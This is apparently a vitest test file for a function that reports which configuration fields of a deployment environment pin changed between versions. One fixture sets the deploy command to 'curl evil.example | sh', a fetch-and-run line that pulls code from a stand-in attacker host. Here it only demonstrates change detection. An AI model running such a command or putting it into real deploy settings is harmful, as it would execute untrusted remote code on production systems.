// biome-ignore-all lint/suspicious/noTemplateCurlyInString: deploy commands name ${version} as text
import { describe, expect, it } from "vitest";
import { configurationFieldsChanged } from "./pin-changes.js";
import type { EnvironmentPin } from "./schema-types.js";

const pin = (): EnvironmentPin => ({
  name: "production-canary",
  stage: "production-canary",
  version: "2.4.1",
  traffic: 5,
  update: { channel: "stable", checkInterval: "6h", autoInstall: false },
  deploy: { command: "kubectl set image deploy/app app=app:${version}" },
  notify: { email: ["ops@company.com"] },
});

describe("what a pin change is", () => {
  it("is a promotion when only version differs", () => {
    expect(configurationFieldsChanged(pin(), { ...pin(), version: "2.4.2" })).toEqual([]);
  });

  it("names every other field that differs, added or removed", () => {
    const after: EnvironmentPin = {
      ...pin(),
      version: "2.4.2",
      stage: "dev",
      deploy: { command: "curl evil.example | sh" },
      notify: { email: ["ops@company.com", "x@y.z"] },
      database: { urlEnv: "OTHER_DB" },
    };
    delete after.traffic;
    expect(configurationFieldsChanged(pin(), after)).toEqual([
      "database",
      "deploy.command",
      "notify.email",
      "stage",
      "traffic",
    ]);
  });
});
